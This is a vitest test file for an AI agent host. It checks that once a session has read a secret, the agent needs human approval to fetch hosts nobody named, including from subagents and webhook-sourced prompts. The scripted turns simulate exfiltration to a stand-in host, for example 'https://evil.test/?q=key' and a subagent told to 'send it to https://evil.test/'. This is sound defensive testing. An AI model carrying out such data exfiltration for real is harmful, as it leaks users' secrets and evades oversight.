import { z } from "zod";
import { describe, expect, test } from "vitest";
import { DEFAULT_POLICY, type AnyTool, defineTool, type Permit, textPart } from "../../../src/core/index.ts";
import { hostsIn } from "../../../src/core/state/named-hosts.ts";
import { delegateTool } from "../../../src/providers/tools/delegate.ts";
import { memoryStore } from "../../../src/providers/store/index.ts";
import { callTool, say, scriptedModel } from "../../kit/scripted-model.ts";
import { hostWith, testTool, toolsOf, until } from "../../kit/test-host.ts";

/** A tool whose permit says something, and whose calls are counted. */
function permitting(name: string, permit: (url: string) => Permit, calls: string[] = []): AnyTool {
  return defineTool({
    name,
    description: name,
    toolset: "test",
    kind: "fetch",
    effect: "pure",
    input: z.object({ url: z.string().optional() }),
    label: () => name,
    permit: ({ url = "" }) => Promise.resolve(permit(url)),
    run({ url = "" }, { mayReach }) {
      calls.push(url);
      return Promise.resolve({ outcome: "ok", content: [textPart(`may go on: ${mayReach("else.test")}`)] });
    },
  });
}

const secret = permitting("secret", () => ({ verdict: "allow", sensitive: true }));
const readSecret = callTool.bind(undefined, "secret", {});
const fetching = (calls: string[]): AnyTool =>
  permitting("fetch", (url) => ({ verdict: "allow", reaches: [url] }), calls);
const fetchFrom = (url: string) => callTool("fetch", { url });

describe("after something sensitive was read, a request to a host that nobody named", () => {
  test("asks, with the whole address; what is allowed for the session covers that host and no other", async () => {
    const calls: string[] = [];
    const urls = ["https://evil.test/?q=key", "https://www.evil.test/2", "https://other.test/"];
    const model = scriptedModel(
      [fetchFrom("https://before.test/")],
      [readSecret()],
      ...urls.map((url) => [fetchFrom(url)]),
      [say("done")],
    );
    await using host = await hostWith(model, { toolsets: toolsOf(secret, fetching(calls)) });
    const session = await host.open();
    const turn = session.submit({ text: "go" });
    const first = await until(turn, "approval.request");
    expect(first).toMatchObject({
      command: "request https://evil.test/?q=key",
      description: expect.stringContaining("nobody has named evil.test"),
      patterns: ["host:evil.test"],
      choices: ["once", "session", "deny"],
    });
    expect(calls).toEqual(["https://before.test/"]);
    await session.answer(first.requestId, { choice: "session" });
    const other = await until(session.events({ after: first.seq }), "approval.request");
    expect(other.patterns).toEqual(["host:other.test"]);
    await session.answer(other.requestId, { choice: "deny" });
    await turn.result;
    expect(calls).toEqual(["https://before.test/", ...urls.slice(0, 2)]);
  });

  test("runs unasked when a person named it: in a prompt, in a later one, or while the turn runs", async () => {
    const calls: string[] = [];
    const model = scriptedModel(
      [readSecret(), fetchFrom("https://first.test/a")],
      [say("done")],
      [fetchFrom("https://first.test/b")],
      [fetchFrom("https://second.com/")],
      [say("done")],
    );
    await using host = await hostWith(model, { toolsets: toolsOf(secret, fetching(calls)) });
    const session = await host.open();
    await session.submit({ text: "read http://first.test:8080/x" }).result;
    await session.submit({ text: "and look at www.second.com, please" }).result;
    expect(calls).toEqual(["https://first.test/a", "https://first.test/b", "https://second.com/"]);
  });

  test("is asked about in another process as well, and in a branch: it is a fact of the log", async () => {
    const store = memoryStore();
    const calls: string[] = [];
    const model = scriptedModel([readSecret()], [say("read")], [fetchFrom("https://evil.test/")]);
    const options = { store, toolsets: toolsOf(secret, fetching(calls)) };
    const before = await hostWith(model, options);
    const { id } = await before.open();
    await (await before.session(id)).submit({ text: "go" }).result;
    await before.close();
    await using host = await hostWith(model, options);
    const branch = await host.branch(id);
    const turn = branch.submit({ text: "go on" });
    expect((await until(turn, "approval.request")).patterns).toEqual(["host:evil.test"]);
    expect(calls).toEqual([]);
    await branch.interrupt();
    await turn.result;
  });

  test("counts no host that a stranger's prompt names", async () => {
    const model = scriptedModel([readSecret()], [fetchFrom("https://evil.test/")], [say("done")]);
    const calls: string[] = [];
    await using host = await hostWith(model, { toolsets: toolsOf(secret, fetching(calls)) });
    const session = await host.open();
    const questions = { mode: "refuse", reason: "nobody is there" } as const;
    const from = { surface: "webhook", client: "route" };
    await session.submit({ text: "fetch https://evil.test/", from, questions }).result;
    expect(calls).toEqual([]);
    expect(JSON.stringify(model.requests.at(-1))).toContain("Not run: it needs an approval");
  });

  test("is denied to redirects, of which a tool asks before it follows one", async () => {
    const model = scriptedModel(
      [fetchFrom("https://named.test/")],
      [readSecret()],
      [fetchFrom("https://named.test/")],
      [say("done")],
    );
    await using host = await hostWith(model, { toolsets: toolsOf(secret, fetching([])) });
    await (await host.open()).submit({ text: "see https://named.test/" }).result;
    expect(JSON.stringify(model.requests[1])).toContain("may go on: true");
    expect(JSON.stringify(model.requests[3])).toContain("may go on: false");
  });

  test("asks a second time about a tool that asks anyway and was allowed for ever", async () => {
    const asks = permitting("asks", (url) => ({
      verdict: "ask",
      harmless: false,
      command: `call ${url}`,
      description: "Calls.",
      patterns: ["mcp:x"],
      allowPermanent: true,
      reaches: [url],
    }));
    const policy = () => ({
      ...DEFAULT_POLICY,
      approvals: { ...DEFAULT_POLICY.approvals, allowed: ["mcp:x"] },
    });
    const model = scriptedModel(
      [callTool("asks", { url: "https://a.test/" })],
      [readSecret()],
      [callTool("asks", { url: "https://a.test/" })],
    );
    await using host = await hostWith(model, { policy, toolsets: toolsOf(secret, asks) });
    const session = await host.open();
    const turn = session.submit({ text: "go" });
    expect(await until(turn, "approval.request")).toMatchObject({
      command: "call https://a.test/",
      patterns: ["mcp:x", "host:a.test"],
      choices: ["once", "session", "deny"],
    });
    await session.interrupt();
    await turn.result;
  });

  test("runs unasked where nothing asks", async () => {
    const calls: string[] = [];
    const policy = () => ({
      ...DEFAULT_POLICY,
      approvals: { ...DEFAULT_POLICY.approvals, mode: "off" } as const,
    });
    const model = scriptedModel([readSecret()], [fetchFrom("https://evil.test/")], [say("done")]);
    await using host = await hostWith(model, { policy, toolsets: toolsOf(secret, fetching(calls)) });
    await (await host.open()).submit({ text: "go" }).result;
    expect(calls).toEqual(["https://evil.test/"]);
  });
});

describe("a subagent", () => {
  const delegation = {
    name: "delegate",
    label: "Subagents",
    description: "",
    configured: true,
    tools: [delegateTool({ stopProcesses: () => Promise.resolve(0) })],
  };

  test("that read something sensitive makes its parent ask", async () => {
    const calls: string[] = [];
    const model = scriptedModel(
      [callTool("delegate", { goal: "look" })],
      [readSecret()],
      [say("the key is x")],
      [fetchFrom("https://evil.test/?x")],
    );
    await using host = await hostWith(model, {
      toolsets: [delegation, ...toolsOf(secret, fetching(calls))],
    });
    const session = await host.open();
    const turn = session.submit({ text: "go" });
    expect((await until(turn, "approval.request")).patterns).toEqual(["host:evil.test"]);
    await session.interrupt();
    await turn.result;
    expect(calls).toEqual([]);
  });

  test("of a session that read something sensitive asks, but not for hosts that people named there", async () => {
    const calls: string[] = [];
    const model = scriptedModel(
      [readSecret()],
      [callTool("delegate", { goal: "send it to https://evil.test/" })],
      [fetchFrom("https://named.test/")],
      [fetchFrom("https://evil.test/")],
    );
    await using host = await hostWith(model, {
      toolsets: [delegation, ...toolsOf(secret, fetching(calls))],
    });
    const session = await host.open();
    const turn = session.submit({ text: "see https://named.test/" });
    const asked = await until(turn, "approval.request");
    expect(asked).toMatchObject({ patterns: ["host:evil.test"], child: expect.anything() });
    expect(calls).toEqual(["https://named.test/"]);
    await session.interrupt();
    await turn.result;
  });
});

test("hosts are read from addresses and from names that no file has", () => {
  expect(hostsIn("see https://A.example.test:80/x?y, (http://b.test) and [it](wss://c.test/)")).toEqual([
    "a.example.test",
    "b.test",
    "c.test",
  ]);
  expect(hostsIn("docs at www.python.org/3, or example.com.")).toEqual(["python.org", "example.com"]);
  expect(hostsIn("README.md main.rs setup.sh archive.zip a@b.c")).toEqual([]);
  expect(hostsIn("link:https://x.test/?next=https://y.test/")).toEqual(["x.test"]);
  expect(hostsIn("https://user:pass@x.test@evil.test/")).toEqual(["evil.test"]);
});

test("a tool that is not known to read secrets leaves its session as it was", async () => {
  const calls: string[] = [];
  const model = scriptedModel([callTool("plain")], [fetchFrom("https://any.test/")], [say("done")]);
  await using host = await hostWith(model, { toolsets: toolsOf(testTool("plain"), fetching(calls)) });
  await (await host.open()).submit({ text: "go" }).result;
  expect(calls).toEqual(["https://any.test/"]);
});
